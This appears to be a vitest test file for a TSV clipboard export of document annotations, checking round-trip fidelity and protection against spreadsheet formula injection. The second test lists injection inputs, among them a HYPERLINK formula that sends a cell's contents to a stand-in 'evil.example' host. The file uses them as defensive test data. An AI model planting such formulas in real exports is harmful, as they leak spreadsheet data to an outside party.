import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { tsvOf } from '../../../renderer/table/tsv.ts';
import { annotation, document } from '../link/records.ts';

const article = document(10);
const about = {
  id: article.id,
  title: article.title,
  byline: null,
  publication: null,
  published: null,
  direction: 'ltr' as const,
};
const names = { tag: (id: string) => id, person: () => 'Mira' };

/** Rows with these notes, as another program reads them from the clipboard. */
function pasted(notes: readonly string[]): string[][] {
  const rows = notes.map((note, i) => ({
    annotation: { ...annotation(i + 1, article.id, 3, 'claim'), ...(note === '' ? {} : { note }) },
    document: about,
    links: 0,
  }));
  const columns = [
    { column: 'note', width: 100 },
    { column: 'kind', width: 100 },
  ] as const;
  return parse(tsvOf(rows, columns, names), { delimiter: '\t' });
}

it('is read by another program to the same cells, whatever is in them', () => {
  const notes = ['plain', 'two\nlines', 'a\ttab', 'he said “no”, she said "yes"', '', '-5'];
  expect(pasted(notes)).toEqual([['Note', 'Kind'], ...notes.map(note => [note, 'Claim'])]);
});

it('gives a spreadsheet nothing to run', () => {
  const notes = ['=HYPERLINK("http://evil.example?"&A1,"Click")', '@SUM(A1:A9)', '\t=1+1', '＝1+1'];
  expect(pasted(notes).slice(1)).toEqual(notes.map(note => [`'${note}`, 'Claim']));
});
